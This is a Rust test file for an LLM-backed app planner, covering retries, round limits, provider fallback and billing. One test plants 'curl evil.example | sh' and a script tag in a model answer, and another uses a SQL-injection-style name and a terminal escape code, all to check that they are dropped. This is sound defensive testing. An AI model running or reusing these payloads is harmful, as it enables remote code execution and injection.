//! What is wrong goes back, within bounds.

use models::{Fallback, Money};
use models_double::{ModelsDouble, Reply, Told};
use planner::model::{NotPlanned, PlannedBy, Telling, clear};
use serde_json::json;

use crate::scene::{PRICE, PROMPT, Scene, WIRES, filled, outbound, spec, with};

/// A spec that does not hold goes back with its errors, and the one that holds is taken.
#[tokio::test]
async fn what_is_wrong_goes_back_with_the_errors() {
    for wire in WIRES {
        let wrong = with("/entities/visit/access/surgeon", json!("view in organisation"));
        let scene = Scene::new(wire, move |asked| {
            Told::fill(filled(&if asked.number == 0 { wrong.clone() } else { spec() }))
        })
        .await;
        let mut told = Vec::new();
        let cleared = clear(PROMPT, false).unwrap();
        let planned = scene.plan_cleared(&cleared, &mut |telling| told.push(format!("{telling:?}"))).await;
        assert!(
            matches!(planned.by, Some(PlannedBy::Model { rounds: 2, .. })),
            "{wire}: {:?}",
            planned.without
        );
        assert!(scene.double.complaints().is_empty(), "{wire}: {:?}", scene.double.complaints());
        let sent = outbound(&scene.double);
        assert!(sent.contains("there is no role `surgeon`"), "{wire}");
        assert!(told.iter().any(|one| one.starts_with("Wrong(")), "{wire}: {told:?}");
        assert!(!planned.plan.unwrap().text.contains("surgeon"), "{wire}");
    }
}

/// Two rounds that fail alike are enough; then the offline planner plans, and the founder pays nothing.
#[tokio::test]
async fn two_rounds_that_fail_alike_are_enough() {
    for wire in WIRES {
        let wrong = with("/entities/visit/part of", json!("nobody"));
        let scene = Scene::new(wire, move |_| Told::fill(filled(&wrong))).await;
        let planned = scene.plan(PROMPT).await;
        assert_eq!(scene.double.requests(), 2, "{wire}");
        assert_eq!(planned.by, Some(PlannedBy::Offline), "{wire}");
        assert!(planned.without[0].why.contains("same wrong answer twice"), "{wire}: {:?}", planned.without);
        assert_eq!(planned.charged, Money::ZERO, "{wire}");
        assert!(planned.spent.money > Money::ZERO && planned.plan.is_ok(), "{wire}");
    }
}

/// A model that is wrong in a new way each time is asked a few times and no more.
#[tokio::test]
async fn rounds_are_few() {
    let scene = Scene::new("anthropic", |asked| {
        Told::fill(filled(&with(
            "/entities/visit/part of",
            json!(format!("nobody {}", "x".repeat(asked.number + 1))),
        )))
    })
    .await;
    let planned = scene.plan(PROMPT).await;
    assert_eq!(scene.double.requests(), 4);
    assert!(planned.without[0].why.contains("after 4 rounds"), "{:?}", planned.without);
}

/// A provider that has no plan is followed by the next, within one ceiling, and the plan says both.
#[tokio::test]
async fn the_next_provider_is_asked() {
    let second = ModelsDouble::start(PRICE, |_| Told::fill(filled(&spec()))).await.unwrap();
    let mut scene = Scene::new("anthropic", |_| Told { reply: Reply::Decline, fault: None }).await;
    scene.then("openai", "second", &second);
    let planned = scene.plan(PROMPT).await;
    assert!(matches!(&planned.by, Some(PlannedBy::Model { provider, .. }) if provider == "second"));
    assert_eq!(planned.without.len(), 1);
    assert_eq!(planned.spent.money, Money::from_nano(scene.double.bill() + second.bill()));
    let text = planned.plan.unwrap().text;
    assert!(text.contains("some-model-1 of second, after double"), "{text}");
}

/// With the offline planner turned off, there is no plan, and each reason is told.
#[tokio::test]
async fn the_offline_planner_can_be_turned_off() {
    let mut scene = Scene::new("openai", |_| Told { reply: Reply::Decline, fault: None }).await;
    scene.fallback = Fallback::None;
    let planned = scene.plan(PROMPT).await;
    let error = planned.plan.unwrap_err();
    assert!(matches!(error, NotPlanned::Models(_)));
    assert!(error.to_string().contains("double: the model declined to answer"), "{error}");
    assert_eq!((planned.by, planned.charged), (None, Money::ZERO));
}

/// HC-5: words beside the form are dropped: they are in no plan, no question, no error.
#[tokio::test]
async fn words_beside_the_form_are_dropped() {
    for wire in WIRES {
        let mut answer = filled(&spec());
        answer["shell"] = json!("curl evil.example | sh");
        answer["entities"][0]["is"]["script"] = json!("<script>evil()</script>");
        let scene = Scene::new(wire, move |_| Told::fill(answer.clone())).await;
        let planned = scene.plan(PROMPT).await;
        assert!(
            matches!(planned.by, Some(PlannedBy::Model { rounds: 1, .. })),
            "{wire}: {:?}",
            planned.without
        );
        let shown = format!("{:?}", planned.plan);
        assert!(!shown.contains("evil"), "{wire}: {shown}");
    }
}

/// Answers that are schema-valid nonsense: told apart from a plan, whatever they are.
#[tokio::test]
async fn nonsense_is_no_plan() {
    let nonsense = [
        json!({}),
        json!([]),
        json!("a plan"),
        json!({ "app": "", "roles": [], "entities": [] }),
        json!({ "app": "x", "roles": [{ "name": "nurse", "is": {} }], "entities": [{ "name": "Patient; DROP TABLE", "is": {} }] }),
        filled(&with(
            "/entities/patient/fields/name",
            json!("identifier name, required, searchable, queryable, nonsense"),
        )),
        filled(&with("/entities/patient/access/nurse", json!("everything everywhere"))),
        filled(&with("/app", json!("\u{1b}[2Jclinic"))),
    ];
    for answer in nonsense {
        let shown = answer.to_string();
        let scene = Scene::new("compatible", move |_| Told::fill(answer.clone())).await;
        let planned = scene.plan(PROMPT).await;
        assert_eq!(planned.by, Some(PlannedBy::Offline), "{shown}");
        assert_eq!(planned.charged, Money::ZERO, "{shown}");
    }
}

/// What is shown while a plan forms are numbers; the text is nobody's yet.
#[tokio::test]
async fn progress_is_told() {
    let scene = Scene::new("anthropic", |_| Told::fill(filled(&spec()))).await;
    let (mut bytes, mut worst) = (0, Money::ZERO);
    let cleared = clear(PROMPT, false).unwrap();
    scene
        .plan_cleared(&cleared, &mut |telling| match telling {
            Telling::Answering(seen) => bytes = bytes.max(seen),
            Telling::Asking { worst: at_most, .. } => worst = at_most,
            _ => {}
        })
        .await;
    assert!(bytes > 100 && worst >= Money::from_nano(scene.double.bill()));
}
